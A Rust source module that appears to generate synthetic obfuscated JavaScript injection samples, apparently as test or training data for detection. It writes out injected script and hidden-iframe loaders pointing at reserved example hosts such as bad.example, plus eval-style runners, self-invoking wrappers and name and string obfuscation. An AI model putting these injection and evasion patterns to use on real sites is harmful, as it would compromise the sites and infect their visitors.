//! What a generator draws from a seed: names, numbers, quotes, hosts, ends of a script and wrappers around it.

/// A source of numbers that gives the same for the same seed.
pub(crate) struct Seed(u64);

impl Seed {
    pub(crate) fn new(number: u64) -> Self {
        Self(number.wrapping_mul(0x9e37_79b9_7f4a_7c15) ^ 0x5bf0_3635)
    }

    /// A number below another (SplitMix64).
    pub(crate) fn below(&mut self, bound: usize) -> usize {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut mixed = self.0;
        mixed = (mixed ^ (mixed >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        mixed = (mixed ^ (mixed >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        ((mixed ^ (mixed >> 31)) % bound.max(1) as u64) as usize
    }

    pub(crate) fn flip(&mut self) -> bool {
        self.below(2) == 0
    }

    pub(crate) fn pick<T: Copy>(&mut self, choices: &[T]) -> T {
        choices[self.below(choices.len())]
    }

    /// Letters from an alphabet.
    pub(crate) fn letters(&mut self, alphabet: &str, count: usize) -> String {
        let alphabet: Vec<char> = alphabet.chars().collect();
        (0..count).map(|_| self.pick(&alphabet)).collect()
    }

    /// A name that no other one equals, in one of the manners of those tools.
    pub(crate) fn name(&mut self) -> String {
        let count = 5 + self.below(6);
        let number = self.below(0xff_ffff);
        match self.below(3) {
            0 => format!("_0x{number:06x}"),
            1 => format!("{}{number}", self.letters("abcdefghijklmnopqrstuvwxyz", 3)),
            _ => self.letters("qwrtzpsdfghjklxcvbnm", count) + &self.letters("aeiou", 4),
        }
    }

    /// A number in another base, or as a sum.
    pub(crate) fn number(&mut self, number: i64) -> String {
        let part = self.below(50) as i64;
        match self.below(4) {
            0 if number >= 0 => format!("{number:#x}"),
            1 if number >= 0 => format!("({part}+{})", number - part).replace("+-", "-"),
            _ if number < 0 => format!("({number})"),
            _ => number.to_string(),
        }
    }

    /// A text as a literal, in either quotes.
    pub(crate) fn quoted(&mut self, text: &str) -> String {
        let quote = self.pick(&['\'', '"']);
        format!("{quote}{}{quote}", text.replace('\\', "\\\\").replace(quote, &format!("\\{quote}")))
    }

    /// A text as a sum of literals.
    pub(crate) fn pieces(&mut self, text: &str, longest: usize) -> String {
        let mut rest: Vec<char> = text.chars().collect();
        let mut parts = Vec::new();
        while !rest.is_empty() {
            let length = (1 + self.below(longest)).min(rest.len());
            let part: String = rest.drain(..length).collect();
            parts.push(self.quoted(&part));
        }
        parts.join("+")
    }

    /// An address of a host that is reserved for examples.
    pub(crate) fn address(&mut self) -> String {
        let count = 4 + self.below(6);
        let label = self.letters("abcdefghijklmnopqrstuvwxyz", count);
        let path = self.letters("abcdefghijklmnopqrstuvwxyz0123456789", 4 + count);
        let host = match self.below(4) {
            0 => format!("192.0.2.{}", 1 + self.below(250)),
            1 => format!("{label}.bad.example"),
            2 => format!("{label}-stat.bad.example"),
            _ => "bad.example".to_owned(),
        };
        let ending = self.pick(&[".js", ".php", "/", "?k=1", ".html"]);
        format!("https://{host}/{path}{ending}")
    }

    /// Code that loads something from an address, its end inert.
    pub(crate) fn end(&mut self, address: &str) -> String {
        let (made, parent) = (self.name(), self.name());
        let size = self.below(3);
        match self.below(5) {
            0 => format!("document.write('<iframe src=\"{address}\" width={size} height={size}></iframe>');"),
            1 => format!("document.write('<scr'+'ipt src=\"{address}\"></scr'+'ipt>');"),
            2 => format!(
                "var {made}=document.createElement('script');{made}.async=true;{made}.src='{address}';\
                 var {parent}=document.getElementsByTagName('script')[0];{parent}.parentNode.insertBefore({made},{parent});"
            ),
            3 => format!(
                "var {made}=document.createElement(\"iframe\");{made}.src=\"{address}\";{made}.style.position='absolute';\
                 {made}.style.left='-{}px';document.body.appendChild({made});",
                1000 + self.below(9000)
            ),
            _ => format!(
                "var {made}=document.createElement('script');{made}.setAttribute('src','{address}');\
                 document.head.appendChild({made});"
            ),
        }
    }

    /// Statements inside something that runs them by itself.
    pub(crate) fn wrapped(&mut self, code: &str) -> String {
        let name = self.name();
        match self.below(7) {
            0 => format!("(function(){{{code}}})();"),
            1 => format!("!function(){{{code}}}();"),
            2 => format!(";(()=>{{{code}}})();"),
            3 => format!("try{{{code}}}catch({name}){{}}"),
            4 => format!("function {name}(){{{code}}}\n{name}();"),
            5 => format!("setTimeout(function(){{{code}}},{});", self.below(3000)),
            _ => code.to_owned(),
        }
    }

    /// A way to run a text.
    pub(crate) fn run(&mut self, text: &str) -> String {
        let name = self.name();
        match self.below(6) {
            0 => format!("eval({text});"),
            1 => format!("window['ev'+'al']({text});"),
            2 => format!("new Function({text})();"),
            3 => format!("var {name}=eval;{name}({text});"),
            4 => format!("[].constructor.constructor({text})();"),
            _ => format!("setTimeout({text},{});", self.below(900)),
        }
    }

    /// Code written by a template: `$1` is a name, the same at each place; `@word` a member; `#64` a number.
    pub(crate) fn filled(&mut self, template: &str, names: &[String]) -> String {
        let brackets = self.flip();
        let mut out = String::new();
        let mut rest = template;
        while let Some(at) = rest.find(['$', '@', '#']) {
            out.push_str(&rest[..at]);
            let tail = &rest[at + 1..];
            let end = tail.find(|c: char| !c.is_ascii_alphanumeric()).unwrap_or(tail.len());
            let word = &tail[..end];
            match rest.as_bytes()[at] {
                b'$' => out.push_str(&names[word.parse::<usize>().expect("a number of a name")]),
                b'#' => out.push_str(&self.number(word.parse().expect("a number"))),
                _ if brackets => out.push_str(&format!("['{word}']")),
                _ => out.push_str(&format!(".{word}")),
            }
            rest = &tail[end..];
        }
        out + rest
    }
}

/// Base64 in any order of the alphabet.
pub(crate) fn base64(bytes: &[u8], alphabet: &str) -> String {
    let alphabet = alphabet.as_bytes();
    let mut out = String::new();
    for group in bytes.chunks(3) {
        let word = group.iter().enumerate().fold(0_u32, |word, (at, byte)| word | u32::from(*byte) << (16 - 8 * at));
        for at in 0..=group.len() {
            out.push(char::from(alphabet[(word >> (18 - 6 * at) & 63) as usize]));
        }
        out.push_str(["", "==", "="][group.len() % 3]);
    }
    out
}

pub(super) const STANDARD: &str = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
pub(super) const TURNED: &str = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/";
